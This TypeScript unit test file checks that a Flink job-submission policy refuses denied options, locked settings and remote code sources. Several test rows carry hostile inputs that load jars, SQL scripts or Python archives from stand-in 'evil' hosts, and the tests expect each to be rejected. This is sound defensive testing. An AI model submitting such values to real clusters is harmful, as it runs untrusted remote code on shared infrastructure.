import { describe, expect, it } from 'vitest';

import type { Policy } from '#events/records/policy.ts';
import { origins } from '#test/fakes/origins.ts';
import {
  clusterId,
  getFlink,
  jar,
  listOperations,
  runWorkflows,
  setPolicy,
  startSession,
  world,
} from '#test/unit/shared/clusters/fixture.ts';

const rows: readonly (readonly [data: object, pointer: string, rule: string, policy: Partial<Policy>])[] = [
  [{ jar, args: ['a'] }, '/args', 'denied', { denied: ['job.args'] }],
  [{ jar, entryClass: 'a.B' }, '/entryClass', 'denied', { denied: ['job.entryClass'] }],
  [{ jar, parallelism: 4 }, '/parallelism', 'denied', { denied: ['parallelism.default'] }],
  [
    { jar, config: { 'parallelism.default': '4' } },
    '/config/parallelism.default',
    'denied',
    { denied: ['job.parallelism'] },
  ],
  [{ jar, parallelism: 4 }, '/parallelism', 'locked', { locked: { 'parallelism.default': '2' } }],
  [{ jar, config: { 'pipeline.name': 'x' } }, '/config/pipeline.name', 'locked', { locked: { 'pipeline.name': 'y' } }],
  [
    { sql: { script: "SET 'pipeline.name' = 'x'; INSERT INTO a SELECT 1" } },
    '/sql/script',
    'locked',
    { locked: { 'pipeline.name': 'y' } },
  ],
  [{ jar, config: { 'pipeline.classpaths': 'https://evil.example/a.jar' } }, '/config/pipeline.classpaths', 'jars', {}],
  [{ sql: { scriptUri: 's3://evil/a.sql' } }, '/sql/scriptUri', 'jars', {}],
  [{ sql: { script: "ADD JAR 's3://evil/a.jar'; INSERT INTO a SELECT 1" } }, '/sql/script', 'jars', {}],
  [{ sql: { script: "SET 'python.archives' = 's3://evil/a.zip'" } }, '/sql/script', 'jars', {}],
];

describe.each(origins)('the policy of a target, for a job on a session from %s', (_origin, send) => {
  it.each(rows)('refuses %j at %s: %s', async (data, pointer, rule, policy) => {
    await startSession(send);
    setPolicy({ denied: [], ...policy });

    const sent = await send('submit', { clusterId, data: { ...data } }, world);

    expect(sent).toMatchObject({ outcome: 'rejected', code: 'refused-option', pointers: [pointer] });
    expect(sent.detail).toContain(`Policy of target local, ${rule}: `);
    expect(listOperations()).toHaveLength(1);
  });

  it('gives the job the locked options', async () => {
    await startSession(send);
    setPolicy({ denied: [], locked: { 'pipeline.name': 'etl', 'kubernetes.service-account': 'flink' } });

    await send('submit', { clusterId, data: { jar, config: { 'pipeline.name': 'etl' } } }, world);
    await send('submit', { clusterId, data: { jar } }, world);
    await runWorkflows();

    const configs = [...getFlink().jobs.values()].map(({ options }) => options.flinkConfiguration);
    expect(configs).toEqual([{ 'pipeline.name': 'etl' }, { 'pipeline.name': 'etl' }]);
  });
});
